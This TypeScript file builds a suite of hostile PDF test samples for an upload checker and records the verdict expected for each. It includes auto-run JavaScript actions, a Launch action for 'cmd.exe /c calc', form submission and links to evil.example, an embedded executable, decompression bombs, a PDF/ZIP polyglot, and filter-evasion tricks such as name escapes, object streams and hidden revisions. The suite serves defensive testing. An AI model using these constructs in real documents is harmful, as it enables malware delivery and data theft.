import { deflateSync } from "node:zlib";
import type { HostileFile } from "./hostile-file.ts";
import { zeros, zip } from "./bytes.ts";
import { objectStream, paper, printed, revised } from "./papers.ts";

const unsafe = ["FILE_UNSAFE"] as const;
const corrupt = ["FILE_CORRUPT"] as const;
const either = ["FILE_CORRUPT", "FILE_UNSAFE"] as const;

const aPaper = (
  name: string,
  expect: HostileFile["expect"],
  bytes: () => Buffer | Promise<Buffer>,
): HostileFile => ({
  name,
  fileName: "passport.pdf",
  claimedType: "application/pdf",
  part: "paper",
  expect,
  bytes: async () => bytes(),
});

const action = "<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>";
const annotation = (more: string) =>
  `/Annots [<< /Type /Annot /Rect [0 0 595 842] /Border [0 0 0] ${more} >>]`;
const linkTo = (more: string) => annotation(`/Subtype /Link /A << ${more} >>`);
const opens = "/OpenAction 5 0 R";

const scripts: HostileFile[] = [
  aPaper("a PDF that runs a script when it is opened", unsafe, () =>
    paper({ catalog: opens, objects: [action] }),
  ),
  aPaper("a PDF that runs a script when a page is turned", unsafe, () =>
    paper({ page: "/AA << /O 5 0 R >>", objects: [action] }),
  ),
  aPaper("a PDF with a script by name", unsafe, async () => {
    const document = await printed(1);
    document.addJavaScript("main", "app.alert(1)");
    return Buffer.from(await document.save({ useObjectStreams: false }));
  }),
  aPaper("a PDF with a script in a compressed stream", unsafe, async () => {
    const document = await printed(1);
    document.addJavaScript("main", "app.alert(1)");
    return Buffer.from(await document.save({ useObjectStreams: true }));
  }),
  aPaper("a PDF that opens with a compressed script", unsafe, () =>
    paper({ catalog: "/OpenAction 6 0 R", objects: [objectStream([[6, action]])] }),
  ),
  aPaper("a PDF with a compressed script in a stream that does not say its type", unsafe, () =>
    paper({ catalog: "/OpenAction 6 0 R", objects: [objectStream([[6, action]], "")] }),
  ),
  aPaper("a PDF whose script is spelled with escapes", unsafe, () =>
    paper({
      catalog: opens,
      objects: ["<< /S /J#61vaScr#69pt /J#53 (app.alert\\(1\\)) >>"],
    }),
  ),
  aPaper("a PDF whose script has its kind in another object", unsafe, () =>
    paper({ catalog: opens, objects: ["<< /S 6 0 R /Js 7 0 R >>", "/JavaScript", "(app)"] }),
  ),
  aPaper("a PDF that says the kind of its action twice", unsafe, () =>
    paper({ catalog: opens, objects: ["<< /S /JavaScript /S /URI /URI (https://a.example) >>"] }),
  ),
  aPaper("a PDF with a script in an earlier revision", unsafe, () =>
    revised(paper({ catalog: opens, objects: [action] }), 5, "<< /S /GoTo /D [3 0 R /Fit] >>"),
  ),
  aPaper("a PDF with a script in what looks like a comment", unsafe, () =>
    paper({ catalog: opens, aside: `% 5 0 obj << /S%\n/JavaScript /JS (app) >> endobj\n` }),
  ),
  aPaper("a PDF with a rendition that runs a script", unsafe, () =>
    paper({ page: linkTo("/S /Rendition /OP 0 /JS (app.alert\\(1\\))") }),
  ),
  aPaper("a PDF with an interactive form (XFA)", unsafe, () =>
    paper({
      catalog: "/AcroForm << /Fields [] /XFA 5 0 R >>",
      objects: [{ dict: "", stream: Buffer.from("<xdp:xdp><script/></xdp:xdp>") }],
    }),
  ),
  aPaper("a PDF locked against changes, with a compressed script", unsafe, async () => {
    const document = await printed(1);
    document.addJavaScript("main", "app.alert(1)");
    document.encrypt({ userPassword: "", ownerPassword: "the vet", permissions: {} });
    return Buffer.from(await document.save({ useObjectStreams: true }));
  }),
];

const launches: HostileFile[] = [
  aPaper("a PDF that starts a program", unsafe, () =>
    paper({ page: linkTo("/S /Launch /Win << /F (cmd.exe) /P (/c calc) >>") }),
  ),
  aPaper("a PDF that opens a file of somebody's network", unsafe, () =>
    paper({ page: linkTo("/S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit]") }),
  ),
  aPaper("a PDF that opens a file inside of it", unsafe, () =>
    paper({ page: linkTo("/S /GoToE /T << /R /C /N (inner.pdf) >>") }),
  ),
  aPaper("a PDF that sends what is filled in", unsafe, () =>
    paper({ catalog: opens, objects: ["<< /S /SubmitForm /F (https://evil.example/) >>"] }),
  ),
  aPaper("a PDF that takes in other data", unsafe, () =>
    paper({ catalog: opens, objects: ["<< /S /ImportData /F (C:/secret.fdf) >>"] }),
  ),
];

const visit = "<< /S /URI /URI (https://evil.example/) >>";
const goTo = "<< /S /GoTo /D [3 0 R /Fit] >>";

/** Ways to open a web page without a click. */
const openings: HostileFile[] = [
  aPaper("a PDF that opens a web page with itself", unsafe, () =>
    paper({ catalog: `/OpenAction ${visit}` }),
  ),
  aPaper("a PDF that opens a web page by a reference", unsafe, () =>
    paper({ catalog: opens, objects: [visit] }),
  ),
  aPaper("a PDF that opens a web page after going to its first page", unsafe, () =>
    paper({
      catalog: opens,
      objects: [
        "<< /S /GoTo /D [3 0 R /Fit] /Next [6 0 R] >>",
        "<< /S /Named /N /LastPage /Next 7 0 R >>",
        visit,
      ],
    }),
  ),
  aPaper("a PDF that opens a web page when its page is turned to", unsafe, () =>
    paper({ page: `/AA << /O ${visit} >>` }),
  ),
  aPaper("a PDF that opens a web page when the mouse comes near", unsafe, () =>
    paper({ page: annotation(`/Subtype /Widget /AA << /E ${visit} >>`) }),
  ),
  aPaper("a PDF whose opening action is packed in a stream", unsafe, () =>
    paper({ catalog: "/OpenAction 6 0 R", objects: [objectStream([[6, visit]])] }),
  ),
  aPaper("a PDF whose opening action is spelled with escapes", unsafe, () =>
    paper({
      catalog: "/Open#41ction 5 0 R",
      objects: ["<< /S /U#52I /U#52I (https://evil.example/) >>"],
    }),
  ),
  aPaper("a PDF whose opening action has its kind in another object", unsafe, () =>
    paper({ catalog: opens, objects: ["<< /S 6 0 R /Uri (https://evil.example/) >>", "/URI"] }),
  ),
  aPaper("a PDF that opened a web page in an earlier revision", unsafe, () =>
    revised(paper({ catalog: opens, objects: [visit] }), 5, goTo),
  ),
  aPaper("a PDF that says twice how it opens", unsafe, () =>
    paper({ catalog: "/OpenAction 5 0 R /OpenAction [3 0 R /Fit]", objects: [visit] }),
  ),
  aPaper("a PDF that says how it opens in what looks like a comment", unsafe, () =>
    paper({ aside: "% 1 0 obj << /OpenAction 5 0 R >>\n", objects: [visit] }),
  ),
  aPaper("a PDF that plays a sound with itself", unsafe, () =>
    paper({ catalog: "/OpenAction << /S /Sound /Sound 5 0 R >>", objects: ["<< /R 8000 >>"] }),
  ),
];

const carriers: HostileFile[] = [
  aPaper("a PDF with a program inside", unsafe, async () => {
    const document = await printed(1);
    await document.attach(Buffer.from("MZ\x90\0"), "invoice.exe", {
      mimeType: "application/octet-stream",
    });
    return Buffer.from(await document.save());
  }),
  aPaper("a PDF with a file pinned to its page", unsafe, () =>
    paper({
      page: annotation("/Subtype /FileAttachment /FS << /Type /Filespec /EF << /F 5 0 R >> >>"),
      objects: [{ dict: "/Type /EmbeddedFile", stream: Buffer.from("MZ") }],
    }),
  ),
  aPaper("a PDF with embedded audio or video", unsafe, () =>
    paper({
      page: annotation("/Subtype /RichMedia /RichMediaContent << /Assets << /Names [] >> >>"),
    }),
  ),
  aPaper("a PDF that is an archive too", unsafe, () => {
    const front = paper();
    return Buffer.concat([front, zip("%%EOF", Buffer.from("MZ"), front.length)]);
  }),
];

const bombs: HostileFile[] = [
  aPaper("a PDF whose objects unpack to 2 GB", either, () =>
    paper({
      objects: [
        { dict: "/Type /ObjStm /N 1 /First 10 /Filter /FlateDecode", stream: zeros(2_000) },
      ],
    }),
  ),
  aPaper("a PDF packed a hundred times over", either, () => {
    let stream = zeros(200);
    for (let time = 1; time < 100; time += 1) stream = deflateSync(stream);
    const filters = "/FlateDecode ".repeat(100);
    return paper({
      objects: [{ dict: `/Type /ObjStm /N 1 /First 10 /Filter [${filters}]`, stream }],
    });
  }),
  aPaper("a PDF whose table says two thousand million objects", either, () =>
    paper({
      objects: [
        {
          dict: "/Type /XRef /Size 2000000000 /W [1 2 1] /Root 1 0 R /Filter /FlateDecode",
          stream: deflateSync(Buffer.alloc(40)),
        },
      ],
    }),
  ),
  aPaper("a PDF with a million brackets", "harmless", () =>
    paper({ objects: ["[".repeat(1_000_000)] }),
  ),
];

const broken: HostileFile[] = [
  aPaper("a page that calls itself PDF", ["FILE_TYPE"], () =>
    Buffer.from("<!doctype html><script>alert(1)</script>%PDF-1.7"),
  ),
  { ...aPaper("a PDF sent as a picture", ["FILE_TYPE"], () => paper()), part: "picture" },
  aPaper("the first line of a PDF", corrupt, () => Buffer.from("%PDF-1.7\n")),
  aPaper("a page behind the first line of a PDF", corrupt, () =>
    Buffer.from("%PDF-1.7\n<script>alert(1)</script>\n%%EOF\n"),
  ),
  aPaper("a PDF cut in half", corrupt, async () => {
    const bytes = await (await printed(5)).save({ useObjectStreams: false });
    return Buffer.from(bytes.subarray(0, bytes.length / 2));
  }),
  aPaper("a PDF without pages", corrupt, () => {
    const bytes = paper().toString("latin1").replace("/Kids [3 0 R]", "/Kids []     ");
    return Buffer.from(bytes, "latin1");
  }),
  aPaper("a PDF that wants a password", unsafe, async () => {
    const document = await printed(1);
    document.encrypt({ userPassword: "otters", ownerPassword: "the vet", permissions: {} });
    return Buffer.from(await document.save());
  }),
  aPaper("a PDF with objects packed in a way that hides them", either, () =>
    paper({
      catalog: "/OpenAction 6 0 R",
      objects: [
        objectStream([[6, "<< >>"]], "/Type /ObjStm /DecodeParms << /Predictor 12 /Columns 9 >>"),
      ],
    }),
  ),
];

export const hostilePapers: readonly HostileFile[] = [
  ...scripts,
  ...launches,
  ...openings,
  ...carriers,
  ...bombs,
  ...broken,
];
